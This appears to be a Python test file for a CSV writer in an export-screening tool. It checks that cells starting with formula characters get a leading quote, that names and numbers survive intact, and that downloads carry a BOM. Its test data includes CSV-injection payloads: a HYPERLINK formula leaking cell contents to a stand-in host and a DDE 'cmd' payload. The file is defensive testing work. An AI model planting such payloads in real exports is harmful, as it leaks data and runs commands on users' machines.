"""The shared CSV writer neutralises formula cells (OWASP "CSV Injection") for every writer."""

from __future__ import annotations

import csv
import io

import pytest

from chipexport.csv_writer import FORMULA_START, csv_text, safe_cell, screening_row

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1+1)*cmd|'/c calc'!A0",
        "\tTAB", "\rCR"]


@pytest.mark.parametrize("text", EVIL)
def test_each_formula_start_gets_a_leading_quote(text: str) -> None:
    assert text.startswith(FORMULA_START)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Huawei Technologies Co Ltd", "", "a=b", " =x", "'quoted", "1-2"])
def test_ordinary_text_is_kept(text: str) -> None:
    assert safe_cell(text) == text


def test_numbers_the_program_computed_stay_numbers() -> None:
    assert safe_cell(-0.5) == -0.5 and safe_cell(3) == 3 and safe_cell(None) == ""


def test_a_screening_result_round_trips_with_every_text_cell_safe() -> None:
    """Party names come from the uploaded file and listed names from the lists: both quoted."""
    result = {"id": "-1", "name": EVIL[0], "country": "CN", "audit": {"seq": 7},
              "matches": [{"source": "@EL", "name": "=cmd()", "score": 0.97,
                           "case": {"id": 3, "status": "open"}}]}
    text = csv_text(["id", "name"], [["=a", "+b"]]) + csv_text(
        ["x"] * 11, [screening_row(result)])
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    assert not any(c.startswith(FORMULA_START) for c in cells)
    assert rows[3][:6] == ["'-1", "'" + EVIL[0], "CN", "1", "'@EL", "'=cmd()"]
    assert rows[3][6:] == ["0.97", "3", "open", "", "7"]


def test_downloads_carry_a_bom_and_the_users_own_columns() -> None:
    """Excel garbled 华为 and Сбербанк without a BOM, and the download dropped the order
    file's own columns, so it no longer joined to the file sent."""
    from chipexport.csv_writer import BOM, screening_table

    results = [{"id": "1", "name": "华为", "country": "CN", "customer_no": "C-1", "po": "=1",
                "matches": [{"source": "EL", "name": "Huawei", "score": 1.0}]},
               {"id": "2", "name": "Сбербанк", "country": "RU", "customer_no": "C-2",
                "matches": [], "warnings": ["w"], "audit": {"seq": 4}}]
    text = csv_text(*screening_table(results))
    assert text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert rows[0][:5] == ["id", "name", "country", "customer_no", "po"]
    assert rows[1][:5] == ["1", "华为", "CN", "C-1", "'=1"]
    assert rows[2][:5] == ["2", "Сбербанк", "RU", "C-2", ""]
    assert rows[2][rows[0].index("audit_seq")] == "4"
